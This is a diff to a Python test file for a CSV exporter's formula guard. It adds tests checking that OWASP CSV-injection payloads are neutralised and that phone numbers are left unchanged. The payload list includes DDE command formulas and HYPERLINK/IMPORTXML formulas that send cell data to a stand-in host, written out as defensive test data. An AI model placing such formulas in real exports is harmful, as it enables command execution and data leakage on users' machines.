@@ -1,4 +1,5 @@
 import csv
+import dataclasses
 import datetime as dt
 import io
 from decimal import Decimal
@@ -10,6 +11,7 @@ from exporter.errors import ConfigError
 from exporter.model import META_KEYS, GeoPoint
 from formats.base import get_writer_class
 from formats.csv_writer import CsvWriter
+from formats.tabular import guard_formula
 from tests.formats.conftest import (
     BAD_FIELD,
     CONTROL,
@@ -23,8 +25,6 @@ from tests.formats.conftest import (
     abandon_writer,
     run_writer,
 )
-
-GUARDED = ("=", "+", "-", "@", "\t", "\r")
 
 
 def _read(path: Path, delimiter=",", encoding="utf-8") -> list[list[str]]:
@@ -41,7 +41,7 @@ def _expected_cell(value, text, guard=True, media_base="media"):
     """What a cell must hold, computed independently of the writer."""
     if value is None:
         t = text or ""
-        return "'" + t if guard and t.startswith(GUARDED) else t
+        return guard_formula(t) if guard else t
     if isinstance(value, bool):
         return "true" if value else "false"
     if isinstance(value, Decimal):
@@ -53,7 +53,7 @@ def _expected_cell(value, text, guard=True, media_base="media"):
     if isinstance(value, tuple):
         return value  # media: checked separately
     t = value.replace("\ud83d", "\\ud83d")
-    return "'" + t if guard and t.startswith(GUARDED) else t
+    return guard_formula(t) if guard else t
 
 
 def test_registry_finds_csv():
@@ -98,7 +98,7 @@ def test_hostile_values(dataset, tmp_path):
     assert by_id["1002"]["status"] == "'" + FORMULA
     assert by_id["1002"]["_login"] == "'=cmd|' /C calc'!A0"
     assert by_id["1002"][DOTDOT_FIELD] == "'@SUM(1)"
-    assert by_id["1002"][SPACE_FIELD] == "'+33 6 12 34 56 78"
+    assert by_id["1002"][SPACE_FIELD] == "+33 6 12 34 56 78"  # a phone number is not a formula
     assert by_id["1002"]["weird_type"] == "'-minus text"
     assert by_id["1002"]["amount"] == "12,345.67x"  # typing failed: original text
     assert by_id["1002"]["visit_date"] == "yesterday"
@@ -112,6 +112,59 @@ def test_hostile_values(dataset, tmp_path):
     assert raw.endswith(b"\r\n") and raw.count(b"\r\n") >= 4
     assert not raw.startswith(b"\xef\xbb\xbf")
     raw.decode("utf-8")
+
+
+#: the OWASP CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection) and
+#: their usual variants: every one must come out guarded
+OWASP_PAYLOADS = [
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-cmd|' /C calc'!A0",
+    "@cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+2+3+cmd|' /C calc'!A0",
+    "=10+20+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for details")',
+    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
+    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\t+cmd|' /C calc'!A0",
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "+1*3",
+    "-(1)+cmd|' /C calc'!A0",
+    "+(2)/3",
+    "-",
+    "+",
+    "- bullet text",
+    "+A1",
+    "-A1",
+    "@A1",
+]
+
+#: only a phone number or a signed number: left as typed
+PLAIN_NUMBERS = ["+33 6 12 34 56 78", "+33 (0)6 12 34 56 78", "+1 (555) 123-4567", "+44 20.7946.0000",
+                 "-5", "+12", "-12.5", "+3.14", "-0", "(555) 123-4567"]
+
+
+@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
+def test_formula_guard_catches_owasp_payloads(payload, dataset, tmp_path):
+    assert guard_formula(payload) == "'" + payload
+    sub = dataset.submissions[0]
+    edited = dataclasses.replace(sub, values={**sub.values, "comment": payload}, text={**sub.text, "comment": payload})
+    records = [edited if r is sub else r for r in dataset.records()]
+    run_writer(CsvWriter, tmp_path, {}, records)
+    rows = _read(_form_dir(tmp_path) / "submissions.csv")
+    by_id = {r[0]: dict(zip(rows[0], r, strict=False)) for r in rows[1:]}
+    assert by_id[sub.id]["comment"] == "'" + payload
+
+
+@pytest.mark.parametrize("number", PLAIN_NUMBERS)
+def test_formula_guard_leaves_phone_and_signed_numbers(number):
+    assert guard_formula(number) == number
 
 
 def test_formula_guard_off_keeps_text_exact(dataset, tmp_path):
